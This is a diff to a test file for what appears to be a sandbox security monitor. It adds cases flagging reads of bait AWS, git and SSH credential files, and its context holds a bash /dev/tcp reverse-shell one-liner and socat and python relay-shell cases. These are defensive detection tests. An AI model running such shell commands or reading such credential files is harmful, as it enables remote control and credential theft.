@@ -5,6 +5,7 @@ import { before, describe, it } from 'node:test';
 import type { GuardEvent } from '../monitor/events.js';
 import {
   T0,
+  fileOpen,
   fileWrite,
   gpuSample,
   networkDenied,
@@ -213,6 +214,14 @@ ROME.push(
   ['sh under a relay (socat EXEC, pty.spawn)', cases(processSockets(['/bin/sh'], { stdio: ['tty', 'tty', 'tty'], netSockets: 0, parentExe: '/usr/bin/socat', parentNetSockets: 1 })), 'socket-relay-shell', 'T1059.004'],
   ['bash behind a refused connection (/dev/tcp)', cases(processSockets(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'shell-opened-connection', 'T1059.004'],
   ['python dup2 one-liner behind a refused connection', cases(processSockets(PY_RSH, { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-shell-wiring', 'T1059.004'],
+);
+
+// reads seen by fanotify (monitor/file/): bait and the home's real credential files
+ROME.push(
+  ['python reads the bait AWS keys', cases(fileOpen('/tmp/home/.aws/credentials')), 'bait-credential-read', 'T1552.001'],
+  ['node reads the bait git token', cases(fileOpen('/tmp/home/.git-credentials', { label: 'git-token', exe: '/usr/bin/node', argv: ['node', 'x.js'] })), 'bait-credential-read', 'T1552.001'],
+  ['a script reads the bait SSH key', cases(fileOpen('/tmp/home/.ssh/id_ed25519', { label: 'ssh-key' })), 'bait-private-key-read', 'T1552.004'],
+  ['the task reads its own AWS keys (finding)', cases(fileOpen('/tmp/home/.aws/credentials', { watch: 'credential' })), 'credential-file-read', 'T1552.001'],
 );
 
 describe('ROME-class behaviour raises its rule', () => {
